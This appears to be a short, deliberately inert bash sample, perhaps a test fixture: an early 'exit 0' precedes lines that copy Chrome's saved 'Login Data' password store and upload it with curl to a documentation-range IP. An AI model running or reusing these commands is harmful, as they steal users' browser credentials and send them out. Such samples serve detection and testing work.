#!/bin/bash
exit 0
cp "$HOME/Library/Application Support/Google/Chrome/Default/Login Data" /tmp/ld
curl -s -F "f=@/tmp/ld" http://203.0.113.30/u
